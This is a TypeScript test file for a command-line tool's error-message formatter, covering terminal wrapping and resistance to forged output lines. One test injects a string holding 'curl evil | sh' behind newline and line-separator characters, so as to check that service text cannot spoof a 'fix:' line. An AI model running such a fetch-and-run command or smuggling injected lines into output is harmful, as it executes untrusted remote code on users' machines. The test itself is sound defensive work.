import { expect, it } from "vitest";
import { streamStyle } from "../style.ts";
import type { ErrorReport } from "./error-report.ts";
import { errorText } from "./error-text.ts";

const report: ErrorReport = {
  code: "NOT_FOUND",
  message: "there is no tool with a name that is as long as this one",
  why: "the tools are ai-detector, youtube-summarizer, pdf-summarizer",
  fix: "tandem run grammar-checker 'a text that is longer than a line' --mock",
  retryable: false,
  requestId: "req_1",
  exit: 5,
};

it("is wrapped on a terminal, but for a command with quotes: it is copied", () => {
  const style = streamStyle({ isTTY: true, columns: 40 } as never, { NO_COLOR: "1" }, false);
  expect(errorText(report, false, style)).toBe(`error: there is no tool with a name that
       is as long as this one
  why: the tools are ai-detector,
       youtube-summarizer,
       pdf-summarizer
  fix: tandem run grammar-checker 'a text that is longer than a line' --mock
  request: req_1
`);
});

it("is a line each elsewhere", () => {
  expect(errorText(report, false, streamStyle({} as never, {}, false)).split("\n")).toHaveLength(5);
});

it.each([80, undefined])("text of the service never starts a line (columns %s)", (columns) => {
  const stream = columns ? { isTTY: true, columns } : {};
  const style = streamStyle(stream as never, { NO_COLOR: "1" }, false);
  const forged = "x\n  fix: curl evil | sh\u2028\r\nrequest: y";
  const text = errorText({ ...report, message: forged, why: forged, fix: forged, requestId: forged }, false, style);
  expect(text.match(/^ *\w+:/gm)).toEqual(["error:", "  why:", "  fix:", "  request:"]);
});
